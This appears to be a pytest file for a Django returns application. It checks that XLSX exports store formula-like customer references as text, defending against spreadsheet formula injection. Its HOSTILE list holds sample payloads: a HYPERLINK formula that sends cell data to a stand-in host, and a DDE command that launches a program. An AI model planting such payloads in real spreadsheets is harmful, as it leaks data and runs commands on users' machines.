"""Exports to XLSX write what people typed as text: a reference such as =HYPERLINK(...) must not
become a live formula in the staff's workbook. Read back with openpyxl, cell by cell."""

from io import BytesIO

import pytest
from openpyxl import load_workbook

from aftersales.lib.xlsx_text import FORMULA_STARTS, text_safe_row
from aftersales.returns.models import ReturnCase

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=cmd|' /C calc'!A0"]


def test_the_case_list_export_writes_formula_like_references_as_text(browser_as, new_case, registry):
    cases = [new_case(role="alice") for _reference in HOSTILE]
    for case, reference in zip(cases, HOSTILE):  # as stored: the API would trim the tab and return
        ReturnCase.objects.filter(pk=case["id"]).update(customer_reference=reference)
    export = browser_as("service").get("/cases/", {"export": "xlsx"})
    assert export.status_code == 200
    sheet = load_workbook(BytesIO(export.content)).active
    header = [cell.value for cell in sheet[1]]
    number, reference_at, noted = header.index("返品单号"), header.index("客户单号"), header.index("退货单数量")
    rows = {row[number].value: row for row in sheet.iter_rows(min_row=2)}
    for case, reference in zip(cases, HOSTILE):
        cell = rows[case["number"]][reference_at]
        stored = reference.replace("\r", "\n")  # XML, and so XLSX, keeps a carriage return as a line feed
        assert (cell.value, cell.data_type) == (stored, "s")
    assert all(cell.data_type != "f" for row in rows.values() for cell in row)
    assert {(row[noted].value, row[noted].data_type) for row in rows.values()} == {(1, "n")}  # numbers stay numbers


def test_text_safe_row_leaves_everything_else_alone():
    from openpyxl import Workbook

    sheet = Workbook(write_only=True).create_sheet()
    row = text_safe_row(sheet, ["=1+1", "A=1", 5, -3.5, None, "", "普通文本"])
    assert row[0].data_type == "s" and row[0].value == "=1+1"
    assert row[1:] == ["A=1", 5, -3.5, None, "", "普通文本"]
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
